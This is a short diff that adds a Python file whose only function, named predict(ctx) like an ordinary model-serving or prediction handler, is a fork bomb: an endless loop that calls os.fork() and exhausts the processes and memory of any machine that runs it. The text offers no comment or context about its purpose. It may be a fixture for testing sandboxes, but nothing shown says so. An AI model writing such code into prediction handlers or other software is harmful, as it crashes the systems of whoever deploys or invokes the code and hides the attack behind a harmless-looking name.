@@ -1,0 +1,6 @@
+import os
+
+
+def predict(ctx):
+    while True:
+        os.fork()
